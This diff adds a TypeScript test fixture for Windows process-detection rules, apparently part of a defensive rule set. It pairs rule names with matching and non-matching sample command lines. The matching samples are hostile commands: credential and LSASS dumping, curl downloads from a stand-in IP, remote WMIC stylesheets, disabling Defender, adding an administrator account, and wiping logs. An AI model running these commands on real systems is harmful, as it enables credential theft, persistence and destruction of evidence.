@@ -1,0 +1,58 @@
+// Processes, first part: tools of intruders and of administrators, persistence, protection.
+
+import { child, proc, row, type RuleRow } from './sketches.ts';
+
+const r = String.raw;
+
+// One rule a line reads better than what the formatter makes of it.
+// prettier-ignore
+export const PROCESS_TOOLS: readonly RuleRow[] = [
+  row('process/credential-theft-tool-verbs', [proc(r`C:\x\m.exe`, 'm.exe "sekurlsa::logonpasswords" exit'), proc(r`C:\x\r.exe`, 'r.exe kerberoast /outfile:h.txt')], { CommandLine: 'm.exe "standard::version" exit' }),
+  row('process/lsass-dump-tool', [proc(r`C:\x\procdump64.exe`, 'procdump64 -accepteula -ma lsass.exe l.dmp'), proc(r`C:\x\nanodump.exe`, '-w a'), proc('rdrleakdiag', 'rdrleakdiag /p 612 /o c:\\x /fullmemdmp')], { CommandLine: 'procdump64 -ma notepad.exe n.dmp' }),
+  row('process/psexec-client-started', [proc(r`C:\tools\PsExec64.exe`, r`PsExec64 \\srv1 cmd`), proc(r`C:\x\a.exe`, 'a', { OriginalFileName: 'psexec.c' })], { Image: r`C:\tools\PsList64.exe` }),
+  row('process/process-created-through-wmic', proc(r`C:\Windows\System32\wbem\WMIC.exe`, 'wmic process call create "calc.exe"'), { CommandLine: 'wmic process list brief' }),
+  row('process/remote-host-managed-through-wmic', proc(r`C:\Windows\System32\wbem\WMIC.exe`, 'wmic /node:srv1 os get caption'), { CommandLine: 'wmic /node:localhost os get caption' }),
+  row('process/remote-task-or-service-by-command', [proc('schtasks', 'schtasks /create /s srv1 /tn t /tr a.exe'), proc('sc', r`sc \\srv1 create s binpath= a.exe`)], { CommandLine: 'schtasks /create /tn t /tr a.exe' }),
+  row('process/command-sent-with-winrs', proc('winrs', 'winrs -r:srv1 ipconfig'), { CommandLine: 'winrs -r:localhost ipconfig' }),
+  row('process/discovery-through-wmic', [proc(r`C:\Windows\System32\wbem\WMIC.exe`, 'wmic product get name'), proc(r`C:\Windows\System32\wbem\WMIC.exe`, r`wmic /namespace:\\root\SecurityCenter2 path AntiVirusProduct`)], { CommandLine: 'wmic /?' }),
+  row('process/registry-or-service-changed-through-wmic', proc(r`C:\Windows\System32\wbem\WMIC.exe`, 'wmic service where name="WinDefend" call stopservice'), { CommandLine: 'wmic service where name="WinDefend" get state' }),
+  row('process/script-run-through-wmic-stylesheet', proc(r`C:\Windows\System32\wbem\WMIC.exe`, 'wmic os get /format:"http://198.51.100.7/a.xsl"'), { CommandLine: 'wmic os get /format:list' }),
+  row('process/task-made-with-suspicious-command', proc('schtasks', 'schtasks /create /tn u /sc onlogon /tr "powershell -w hidden -f a.ps1"'), { CommandLine: r`schtasks /create /tn u /sc onlogon /tr "C:\Program Files\u\u.exe"` }),
+  row('process/task-made-as-system-by-command', proc('schtasks', 'schtasks /create /tn u /tr u.exe /ru SYSTEM'), { CommandLine: 'schtasks /create /tn u /tr u.exe /ru ann' }),
+  row('process/task-deleted-or-disabled-by-command', [proc('schtasks', 'schtasks /delete /tn u /f'), proc('schtasks', 'schtasks /change /tn u /disable')], { CommandLine: 'schtasks /query /tn u' }),
+  row('process/service-made-or-changed-by-command', proc('sc', r`sc create s binPath= "C:\x\s.exe" start= auto`), { CommandLine: 'sc config s start= auto' }),
+  row('process/service-access-list-set-by-command', proc('sc', 'sc sdset s D:(D;;DCLCWPDTSD;;;IU)'), { CommandLine: 'sc sdshow s' }),
+  row('process/autostart-written-by-command', proc('reg', r`reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v u /d a.exe`), { CommandLine: r`reg query HKCU\Software\Microsoft\Windows\CurrentVersion\Run` }),
+  row('process/protection-weakened-with-reg', [proc('reg', r`reg add "HKLM\Software\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f`), proc(r`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, r`powershell Set-ItemProperty HKLM:\System\CurrentControlSet\Control\Lsa RunAsPPL 0`)], { CommandLine: r`reg query "HKLM\Software\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware` }),
+  row('process/safe-mode-prepared-by-command', [proc('bcdedit', 'bcdedit /set {current} safeboot network'), proc('reg', r`reg add HKLM\System\CurrentControlSet\Control\SafeBoot\Network\svc /d Service`)], { CommandLine: 'bcdedit /enum' }),
+  row('process/boot-protection-weakened-with-bcdedit', proc('bcdedit', 'bcdedit /set testsigning on'), { CommandLine: 'bcdedit /set testsigning off' }),
+  row('process/local-account-made-by-command', proc('net1', 'net1 user evil P@ss /add'), { CommandLine: 'net1 user evil /active:no' }),
+  row('process/account-put-into-administrators-by-command', proc('net', 'net localgroup administrators evil /add'), { CommandLine: 'net localgroup administrators evil /delete' }),
+  row('process/files-encoded-or-decoded-with-certutil', proc('certutil', 'certutil -decode a.txt a.exe'), { CommandLine: 'certutil -dump a.cer' }),
+  row('process/certificate-exported-or-trusted-by-command', proc('certutil', 'certutil -exportPFX -p x My 1234 out.pfx'), { CommandLine: 'certutil -store My' }),
+  row('process/program-fetched-with-curl', [proc('curl', 'curl http://203.0.113.5/a -o a'), proc('curl', r`curl https://example.com/a.exe --output C:\Users\Public\a.exe`)], { CommandLine: 'curl http://127.0.0.1/a -o a' }, { CommandLine: 'curl https://example.com/health' }),
+  row('process/unusual-request-with-curl', proc('curl', 'curl -k https://example.com'), { CommandLine: 'curl https://example.com' }),
+  row('process/archive-with-password-made', proc(r`C:\Program Files\7-Zip\7z.exe`, '7z a -pSecret out.7z C:\\data'), { CommandLine: '7z a out.7z C:\\data' }),
+  row('process/data-copied-to-cloud-by-tool', [proc(r`C:\x\rclone.exe`, 'rclone version'), proc(r`C:\x\svchost2.exe`, r`svchost2 copy C:\data mega:x`)], { Image: r`C:\x\robocopy.exe` }),
+  row('process/remote-control-program-started', [proc(r`C:\Users\ann\Downloads\AnyDesk.exe`, 'AnyDesk'), proc(r`C:\x\a.exe`, 'a', { Product: 'RustDesk' })], { Image: r`C:\Users\ann\Downloads\Notes.exe` }),
+  row('process/tunnel-program-started', [proc(r`C:\x\ngrok.exe`, 'ngrok start'), proc(r`C:\x\a.exe`, 'a.exe client 203.0.113.5:443 R:socks'), proc(r`C:\x\cloudflared.exe`, 'cloudflared tunnel run')], { Image: r`C:\x\putty.exe` }),
+  row('process/anonymising-browser-started', proc(r`C:\Users\ann\Desktop\Tor Browser\Browser\firefox.exe`, 'firefox'), { Image: r`C:\Program Files\Mozilla Firefox\firefox.exe` }),
+  row('process/network-scanner-started', [proc(r`C:\x\nmap.exe`, 'nmap -sV 10.0.0.0/24'), proc(r`C:\x\a.exe`, 'a', { Description: 'Advanced IP Scanner' })], { Image: r`C:\x\nslookup.exe` }),
+  row('process/directory-collected-by-tool', [proc(r`C:\x\adfind.exe`, 'adfind'), proc(r`C:\x\a.exe`, 'a.exe -f "(objectcategory=person)"'), proc(r`C:\x\b.exe`, 'b.exe --CollectionMethods All')], { Image: r`C:\x\dsa.exe` }),
+  row('process/system-program-under-other-name', [proc(r`C:\Users\ann\x.exe`, 'x', { OriginalFileName: 'PowerShell.EXE' }), proc(r`C:\x\n.exe`, 'n', { OriginalFileName: 'netsh.exe' })], { Image: r`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe` }),
+  row('process/system-program-outside-its-folder', proc(r`C:\Users\ann\svchost.exe`, 'svchost'), { Image: r`C:\Windows\System32\svchost.exe` }),
+  row('process/system-program-with-wrong-parent', child(r`C:\Users\ann\x.exe`, 'svchost'), { ParentImage: r`C:\Windows\System32\services.exe` }, { ParentImage: null }),
+  row('process/program-in-folder-for-other-things', [proc(r`C:\$Recycle.Bin\a.exe`, 'a'), proc(r`C:\ProgramData\a.exe`, 'a')], { Image: r`C:\ProgramData\Vendor\a.exe` }),
+  row('process/program-with-disguised-extension', [proc(r`C:\Users\ann\Downloads\invoice.pdf.exe`, ''), proc('C:\\Users\\ann\\inv\u202Efdp.exe', '')], { Image: r`C:\Users\ann\Downloads\invoice.exe` }),
+  row('process/defender-weakened-by-command', [proc('powershell', 'powershell Set-MpPreference -DisableRealtimeMonitoring $true'), proc('dism', 'dism /online /disable-feature /featurename:Windows-Defender /remove')], { CommandLine: 'powershell Get-MpPreference' }),
+  row('process/tool-against-security-products-started', [proc(r`C:\x\EDRFreeze-gnu.exe`, ''), proc(r`C:\x\kdu.exe`, '')], { Image: r`C:\x\edit.exe` }),
+  row('process/firewall-rule-added-by-command', proc('netsh', 'netsh advfirewall firewall add rule name=x dir=in action=allow localport=4444 protocol=tcp'), { CommandLine: 'netsh advfirewall firewall add rule name=x dir=in action=block localport=4444 protocol=tcp' }),
+  row('process/remote-desktop-enabled-by-command', proc('reg', r`reg add "HKLM\System\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f`), { CommandLine: r`reg add "HKLM\System\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 1 /f` }),
+  row('process/event-consumer-compiled-with-mofcomp', child('cmd', r`C:\Windows\System32\wbem\mofcomp.exe`, r`mofcomp C:\Users\ann\a.mof`), { CommandLine: r`mofcomp C:\Windows\System32\wbem\cimwin32.mof` }, { ParentImage: r`C:\Windows\System32\msiexec.exe` }),
+  row('process/helper-library-added-to-netsh', proc('netsh', r`netsh add helper C:\x\a.dll`), { CommandLine: 'netsh show helper' }),
+  row('process/services-stopped-in-bulk-by-command', [proc('net', 'net stop VeeamBackupSvc'), proc('taskkill', 'taskkill /f /im sqlserver.exe')], { CommandLine: 'net stop Themes' }),
+  row('process/permissions-opened-by-command', proc('icacls', r`icacls C:\data /grant Everyone:F /T`), { CommandLine: r`icacls C:\data /grant ann:F /T` }, { CommandLine: r`icacls C:\data` }),
+  row('process/files-or-traces-wiped-by-command', [proc('fsutil', 'fsutil usn deletejournal /d C:'), proc('cipher', 'cipher /w:C'), proc('cmd', 'cmd /c ping 127.0.0.1 -n 3 & del /f a.exe')], { CommandLine: 'fsutil usn queryjournal C:' }),
+  row('process/files-hidden-with-attrib', proc('attrib', r`attrib +h +s C:\x\a.exe`), { CommandLine: r`attrib +h C:\x\a.exe` }),
+  row('process/window-hidden-with-cmd-start', proc('cmd', 'cmd /c start /min a.exe'), { CommandLine: 'cmd /c start a.exe' }),
+];
